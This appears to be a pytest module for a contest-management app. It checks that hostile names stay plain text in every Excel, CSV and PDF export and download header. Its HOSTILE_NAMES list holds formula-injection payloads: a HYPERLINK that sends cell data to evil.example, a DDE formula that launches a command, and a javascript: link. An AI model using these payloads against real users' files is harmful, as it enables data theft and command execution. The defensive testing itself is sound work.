"""Names typed by anyone stay plain text in every export and PDF (issue 15 §2–§4).

One parametrised test puts the same hostile names into every text a contest carries (its
name, the event, the competitor, the coach, the employer) and opens every Excel, CSV and PDF
compapp produces from them: no cell is a formula, text that starts like one is marked as
text and reads exactly as typed, no PDF breaks, links out or embeds a file, and every
download has a usable file name.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from pypdf import PdfReader

from compapp.audit.services import record_change
from compapp.certificates.content import Placing, award_certificate
from compapp.certificates.pdf import render_certificate
from compapp.certificates.serials import new_serial
from compapp.contests.models import Coach, Competitor, Placement
from compapp.imports.report import build_report
from compapp.imports.template import build_template
from compapp.promotion.exports import NoticeDocument, NoticeRow, notice_pdf, notice_workbook
from compapp.rewards.exports import write_awards_workbook
from compapp.rewards.models import AwardLineRecord


def looks_like_formula(value) -> bool:
    """The usual rule: text starting with = + - @, a tab or a carriage return."""
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+86-0887-1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a<b",
    '<a href="javascript:alert(1)">点我</a>',
    '<img src="/usr/share/pixmaps/debian-logo.png"/>',
    "&lt;b&gt; & <br/>",
    "名称\n第二行",
]


def sheet_cells(data: bytes) -> list:
    """Every cell holding a value, in every sheet of the workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_safe_workbook(data: bytes, name: str, must_show: bool = True) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(part), part  # no formula anywhere
    cells = sheet_cells(data)
    assert all(c.data_type != "f" for c in cells)
    for cell in cells:
        if looks_like_formula(cell.value):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
    if must_show:
        # XML reads a carriage return back as a line feed.
        shown = name.replace("\r", "\n")
        assert any(shown in str(c.value).replace("\r", "\n") for c in cells), name


def assert_safe_csv(data: bytes, name: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = [field for row in rows for field in row]
    assert not any(looks_like_formula(field) for field in fields)
    shown = "'" + name if looks_like_formula(name) else name
    assert any(shown in field for field in fields), name


def pdf_text(data: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def assert_safe_pdf(data: bytes, name: str, images: bool = False) -> None:
    assert data.startswith(b"%PDF-")
    assert b"/URI" not in data and b"/JavaScript" not in data and b"/Launch" not in data
    if not images:
        assert b"/Subtype /Image" not in data  # nothing embedded from the server
    text = re.sub(r"\s+", "", pdf_text(data))
    visible = re.sub(r"\s+", "", name)
    assert visible in text, (visible, text[:300])


def assert_download_name(response) -> None:
    disposition = response.headers["Content-Disposition"]
    assert "\n" not in disposition and "\r" not in disposition


@pytest.fixture
def hostile_contest(db, create_contest, create_event, create_entry, request):
    """A contest whose every text is the hostile name: awards computed, results confirmed."""
    name = request.param
    contest = create_contest(name)
    event = create_event(contest, "电工")
    entry = create_entry(event, "533422", rank=1, result="gold", names=["张三"])
    # What the entry form would refuse can still arrive by import or from older records.
    event.occupation = name
    for competitor in db.session.scalars(db.select(Competitor)):
        competitor.name = name
    for member in entry.members:
        member.employer = name
    db.session.add(Coach(name=name))
    for placement in db.session.scalars(db.select(Placement)):
        placement.status = "confirmed"
    db.session.commit()
    assert db.session.scalar(db.select(db.func.count(AwardLineRecord.id)))
    return contest, name


@pytest.mark.parametrize("hostile_contest", HOSTILE_NAMES, indirect=True)
def test_every_export_keeps_a_hostile_name_as_plain_text(
    hostile_contest, client, auth, create_user, db
):
    """Every Excel, CSV and PDF export of a contest whose texts are hostile: formulas are
    written as text (shown unchanged), markup is printed not obeyed, names are safe."""
    contest, name = hostile_contest
    create_user("org", "organiser")
    create_user("fin", "finance", jurisdiction_code="530000")
    create_user("adm", "admin")

    auth.login("org")
    awards = client.get(f"/contests/{contest.id}/awards.xlsx")
    assert awards.status_code == 200
    assert_download_name(awards)
    assert_safe_workbook(awards.data, name)
    template = client.get(f"/imports/contests/{contest.id}/template.xlsx")
    assert template.status_code == 200
    assert_download_name(template)
    assert_safe_workbook(template.data, name)
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["赛项（工种）", "形式", "选手姓名", "身份证号", "选派县（市、区）"])
    writer.writerow([name, "单人", name, "533422199001011234", "德钦县"])
    response = client.post(
        f"/imports/contests/{contest.id}",
        data={"file": (io.BytesIO(upload.getvalue().encode()), "成绩.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    report = client.get(response.location + "/report.xlsx")
    assert report.status_code == 200
    assert_safe_workbook(report.data, name.strip())  # the reader trims a cell's ends
    auth.logout()

    auth.login("fin")
    year = contest.award_on.year
    for url in (
        f"/finance/contests/{contest.id}/budget.xlsx",
        f"/finance/years/{year}/budget.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_download_name(response)
        assert_safe_workbook(response.data, name)
    for url in (f"/finance/contests/{contest.id}/budget.pdf", f"/finance/years/{year}/budget.pdf"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_download_name(response)
        assert_safe_pdf(response.data, name)
    auth.logout()

    # An audit summary that starts with the typed text (as a renamed record's would).
    record_change("rename", "contest", contest.id, name)
    db.session.commit()
    auth.login("adm")
    audit = client.get("/audit/export.csv")
    assert audit.status_code == 200
    assert_safe_csv(audit.data, name)


@pytest.mark.parametrize("hostile_contest", HOSTILE_NAMES, indirect=True)
def test_an_export_made_by_a_background_job_keeps_a_hostile_name_as_plain_text(
    hostile_contest, app, client, auth, create_user, monkeypatch
):
    """A large export is made by a job and downloaded from the job's page: the file and its
    download name keep the hostile text as typed, as the direct download does."""
    contest, name = hostile_contest
    create_user("org", "organiser")
    monkeypatch.setitem(app.config, "EXPORT_DIRECT_MAX_ROWS", 0)  # every export is large
    auth.login("org")
    url = f"/contests/{contest.id}/awards.xlsx"
    offer = client.get(url)
    assert offer.status_code == 200 and offer.mimetype == "text/html"
    started = client.post(url)
    assert started.status_code == 302
    status = client.get(started.headers["Location"] + "/status").get_json()
    assert status["state"] == "done", status
    download = client.get(status["download_url"])
    assert download.status_code == 200
    assert_download_name(download)
    assert_safe_workbook(download.data, name)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_every_document_generator_keeps_a_hostile_name_as_plain_text(name):
    """The generators themselves (notice PDF and Excel, certificate, award workbook, import
    template and report), given the hostile name in every text they print."""
    row = NoticeRow(name, name, name, name, "第 1 名", "三级/高级工", "二级/技师", name, name)
    notice = NoticeDocument(
        contest_name=name,
        category_name="其他省级一类职业技能竞赛",
        award_on=date(2025, 8, 22),
        policy_document=name,
        policy_id="dq-2022",
        published_on=date(2026, 11, 27),
        working_days=5,
        ends_on=date(2026, 12, 4),
        holidays_in_period=(),
        issuer=name,
        contact=name,
        rows=(row,),
    )
    assert_safe_pdf(notice_pdf(notice), name)
    assert_safe_workbook(notice_workbook(notice), name)
    certificate = award_certificate(
        Placing(
            holder_name=name,
            contest_name=name,
            event_name=name,
            result_text="金牌",
            serial=new_serial(),
            issued_on=date(2025, 11, 3),
        )
    )
    assert_safe_pdf(render_certificate(certificate, "https://compapp.example.cn/v"), name, True)
    line = [name, name, name, name, "金牌", "省级", name, 100, "yn", "(1)", name, name]
    out = io.BytesIO()
    write_awards_workbook(out, name, name, [line], [], 100, [name])
    assert_safe_workbook(out.getvalue(), name)
    assert_safe_workbook(
        build_template(name, name, "2024-09-15", [name], [name], [(name, name)]), name
    )
    from compapp.imports import layout, reading

    table = reading.Table("参赛组", [layout.NAME], [(2, {layout.NAME: name})])
    problem = reading.CellProblem("参赛组", 2, layout.NAME, name, "姓名最长 80 个字。")
    assert_safe_workbook(build_report(table, [problem]), name)
